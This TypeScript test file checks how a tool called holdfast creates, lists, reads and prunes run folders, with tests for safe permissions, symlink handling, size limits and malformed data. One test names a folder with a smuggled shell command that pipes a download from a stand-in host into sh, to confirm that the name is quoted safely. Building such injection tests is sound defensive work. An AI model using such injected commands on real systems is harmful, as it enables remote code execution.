import assert from 'node:assert/strict';
import { execFileSync } from 'node:child_process';
import {
  chmodSync,
  chownSync,
  existsSync,
  mkdirSync,
  readFileSync,
  rmSync,
  statSync,
  symlinkSync,
  truncateSync,
  writeFileSync,
} from 'node:fs';
import { mkdtemp, readdir, readlink, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { basename, join } from 'node:path';
import { mock } from 'node:test';
import { judgeRun } from '../judge/judge.ts';
import { UsageError } from '../model/usage-error.ts';
import { readFindings, writeFindings } from './findings-file.ts';
import { findRun, listRuns, newRunFolder, pointLatestAt, pruneRuns } from './runs.ts';

const golden = join(import.meta.dirname, '..', 'testing', 'golden', 'rolling-update-without-pre-stop');

/** Bytes that this process has read so far, by all its system calls. */
const bytesRead = (): number => Number(/^rchar: (\d+)$/m.exec(readFileSync('/proc/self/io', 'utf8'))?.[1]);

describe('runs', () => {
  let runs: string;
  beforeEach(async () => {
    runs = await mkdtemp(join(tmpdir(), 'holdfast-runs-'));
  });
  afterEach(() => rm(runs, { recursive: true }));

  const make = async (count: number) => {
    for (let index = 0; index < count; index++) {
      const { id, folder } = newRunFolder(runs, ['rolling-update']);
      await writeFile(join(folder, 'plan.json'), '{}');
      pointLatestAt(runs, id);
    }
  };

  it('get different names, even within a second', async () => {
    await make(3);
    const ids = listRuns(runs).map(({ id }) => id);
    assert.equal(new Set(ids).size, 3);
    for (const id of ids) assert.match(id, /^\d{8}T\d{6}Z-rolling-update-[a-z0-9]{6}$/);
  });

  it('are readable only by their owner, in a folder of runs of the same user', async () => {
    chmodSync(runs, 0o755);
    const { folder } = newRunFolder(runs, ['rolling-update']);
    assert.equal(statSync(folder).mode & 0o777, 0o700);
    assert.equal(statSync(runs).mode & 0o777, 0o755);
  });

  if (process.getuid?.() === 0)
    it('may be in a folder of another user', () => {
      chownSync(runs, 65534, 65534);
      const { folder } = newRunFolder(runs, ['rolling-update']);
      assert.equal(statSync(folder).uid, 0);
    });

  it('are named in commands that are quoted for a shell', async () => {
    const folder = join(runs, "a'; curl evil.invalid | sh");
    mkdirSync(folder);
    const command = `: ./holdfast judge '${folder.replace("'", "'\\''")}'`;
    const refused = (error: unknown) => error instanceof UsageError && error.message.endsWith(command);
    assert.throws(() => readFindings(folder), refused);
    await writeFile(join(folder, 'findings.json'), '{}');
    assert.throws(() => readFindings(folder), refused);
  });

  it('do not replace `latest` if it is not a link', async () => {
    await writeFile(join(runs, 'latest'), 'words');
    const { id } = newRunFolder(runs, ['rolling-update']);
    assert.throws(
      () => pointLatestAt(runs, id),
      (error) => error instanceof UsageError && /latest is not a link/.test(error.message),
    );
    assert.equal(readFileSync(join(runs, 'latest'), 'utf8'), 'words');
  });

  it('are found by id, by path and as latest, which is a relative link', async () => {
    await make(1);
    const [run] = listRuns(runs);
    assert.ok(run);
    assert.equal(findRun(runs, run.id), run.folder);
    assert.equal(findRun(runs, run.folder), run.folder);
    assert.equal(findRun(runs, 'latest'), run.folder);
    assert.equal(await readlink(join(runs, 'latest')), basename(run.folder));
  });

  it('cause a clear error if they do not exist', async () => {
    assert.throws(() => findRun(runs, 'nothing'), /no run nothing in .*holdfast runs list/);
    assert.throws(() => findRun(runs, 'latest'), /no run latest/);
  });

  describe('without readable findings', () => {
    let folder: string;
    beforeEach(async () => {
      await make(1);
      folder = findRun(runs, 'latest');
    });
    const usage = (words: RegExp) => (error: unknown) => error instanceof UsageError && words.test(error.message);
    const refused = (words: RegExp) => assert.throws(() => readFindings(folder), usage(words));
    const verdict = () => listRuns(runs)[0]?.verdict;

    it('report how to judge them', async () => {
      refused(/was not judged\. Judge it: \.\/holdfast judge/);
      assert.equal(verdict(), 'not judged');
    });

    it('are not read for the list if they are larger than 1 MiB', async () => {
      await writeFile(
        join(folder, 'findings.json'),
        JSON.stringify({ verdict: 'pass', sentence: 'all well', padding: 'x'.repeat(1024 ** 2) }),
      );
      const [run] = listRuns(runs);
      assert.equal(run?.verdict, 'cannot be read');
      assert.match(run?.sentence ?? '', /more than the limit of 1048576\. Judge the run again: \.\/holdfast judge/);
    });

    for (const [what, text, words] of [
      ['cut off', '{"schema":', /findings\.json is not JSON: .*Judge the run again/],
      [
        'of another schema',
        '{"schema":"holdfast.findings/9"}',
        /unknown schema "holdfast\.findings\/9"\. Judge the run again/,
      ],
      [
        'of a schema with lines of its own',
        '{"schema":"x\\nRun: sh"}',
        /unknown schema "x\\nRun: sh"\. Judge the run again/,
      ],
      ['of another shape', '{"verdict":5}', /findings\.json: schema: .*Judge the run again/],
      ['without a plan', '{"schema":"holdfast.findings/2"}', /findings\.json: plan: .*Judge the run again/],
      ['no object', 'null', /findings\.json: .*Judge the run again/],
      ['nested deeply', `{"plan":${'['.repeat(20_000)}${']'.repeat(20_000)}}`, /nested deeper than 64 levels/],
      ['with a field that stands for a prototype', '{"__proto__":{"verdict":"pass"}}', /a field named __proto__/],
    ] as const)
      it(`are reported as a usage error if they are ${what}`, async () => {
        await writeFile(join(folder, 'findings.json'), text);
        refused(words);
        assert.equal(verdict(), 'cannot be read');
      });

    for (const [what, plant] of [
      ['a pipe', (path: string) => execFileSync('mkfifo', [path])],
      ['a folder', (path: string) => mkdirSync(path)],
      [
        'a link to findings',
        (path: string) => {
          writeFileSync(join(runs, 'outside.json'), '{"verdict":"pass","sentence":"stolen"}');
          symlinkSync('../outside.json', path);
        },
      ],
      [
        'far too large',
        (path: string) => {
          writeFileSync(path, '');
          truncateSync(path, 5 * 1024 ** 3);
        },
      ],
    ] as const)
      it(`do not wait and read nothing if their file is ${what}`, async () => {
        await make(1);
        for (const name of ['findings.json', 'summary.json']) {
          plant(join(folder, name));
          if (name === 'findings.json') refused(/findings\.json: /);
          assert.deepEqual(
            listRuns(runs)
              .map((run) => run.verdict)
              .sort(),
            ['cannot be read', 'not judged'],
          );
          assert.ok(!JSON.stringify(listRuns(runs)).includes('stolen'));
          rmSync(join(folder, name), { recursive: true });
        }
      });
  });

  it('are listed with their summaries, and old runs with their findings', async () => {
    await make(1);
    const folder = findRun(runs, 'latest');
    const findings = await judgeRun(golden);
    writeFindings(folder, findings);
    assert.deepEqual(readFindings(folder), JSON.parse(JSON.stringify(findings)));
    const listed = () => listRuns(runs).map(({ verdict, sentence }) => ({ verdict, sentence }));
    const { verdict, sentence } = findings;
    assert.deepEqual(listed(), [{ verdict, sentence }]);
    rmSync(join(folder, 'summary.json'));
    assert.deepEqual(listed(), [{ verdict, sentence }]);
    await writeFile(join(folder, 'findings.json'), 'nothing');
    await writeFile(
      join(folder, 'summary.json'),
      JSON.stringify({ schema: 'holdfast.summary/1', verdict, sentence: 'short' }),
    );
    assert.deepEqual(listed(), [{ verdict, sentence: 'short' }]);
  });

  it('are listed without reading large files', async () => {
    await make(1);
    const folder = findRun(runs, 'latest');
    const megabytes = (count: number, start = '') => `${start}${' '.repeat(count * 1024 ** 2)}`;
    const summary = JSON.stringify({ schema: 'holdfast.summary/1', verdict: 'pass', sentence: 'short' });
    for (const name of ['findings.json', 'report.json', 'report.html', 'plan.json'])
      await writeFile(join(folder, name), megabytes(20));
    await writeFile(join(folder, 'summary.json'), summary);
    const before = bytesRead();
    const [listed] = listRuns(runs);
    const read = bytesRead() - before;
    assert.equal(listed?.sentence, 'short');
    assert.ok((listed?.bytes ?? 0) > 80 * 1024 ** 2);
    assert.ok(read < 100_000, `${read} bytes were read`);
    // Findings of old runs without a summary, of any size, cost no more than a megabyte.
    rmSync(join(folder, 'summary.json'));
    assert.equal(listRuns(runs)[0]?.verdict, 'cannot be read');
  });

  it('are removed as links if they are links, without their targets', async () => {
    const outside = join(runs, 'outside');
    mkdirSync(outside);
    writeFileSync(join(outside, 'kept'), '');
    symlinkSync(outside, join(runs, '20260101T000000Z-linked'));
    const { folder } = newRunFolder(runs, ['rolling-update']);
    symlinkSync(outside, join(folder, 'rolling-update'));
    await make(1);
    assert.deepEqual(
      pruneRuns(runs, 0).map(({ id }) => id),
      [basename(folder), '20260101T000000Z-linked'],
    );
    assert.deepEqual(await readdir(outside), ['kept']);
    assert.ok(!existsSync(folder));
  });

  it('are pruned in a folder of runs behind a link, and nothing else is removed', async () => {
    await make(2);
    mkdirSync(join(runs, 'not-a-run'));
    const link = join(runs, 'link');
    symlinkSync(runs, link);
    pruneRuns(link, 0);
    assert.equal(listRuns(runs).length, 1);
    assert.ok(existsSync(join(runs, 'not-a-run')));
  });

  it('ignore entries whose names are not ids', async () => {
    await make(1);
    for (const named of ['__proto__', 'constructor', '../nothing', '/nothing', 'a\0b', ''])
      assert.throws(() => findRun(runs, named), /there is no plan\.json/, JSON.stringify(named));
  });

  it('are pruned from the oldest on, but never the latest', async () => {
    // Ids of the same second have no order.
    mock.timers.enable({ apis: ['Date'], now: Date.now() });
    try {
      for (let index = 0; index < 4; index++) {
        await make(1);
        mock.timers.tick(1000);
      }
    } finally {
      mock.timers.reset();
    }
    const newest = listRuns(runs).map(({ id }) => id);
    assert.deepEqual(
      pruneRuns(runs, 2).map(({ id }) => id),
      newest.slice(2),
    );
    assert.deepEqual(
      listRuns(runs).map(({ id }) => id),
      newest.slice(0, 2),
    );
    pointLatestAt(runs, String(newest[1]));
    assert.equal(pruneRuns(runs, 0).length, 1);
    assert.deepEqual((await readdir(runs)).sort(), [await readlink(join(runs, 'latest')), 'latest'].sort());
  });
});
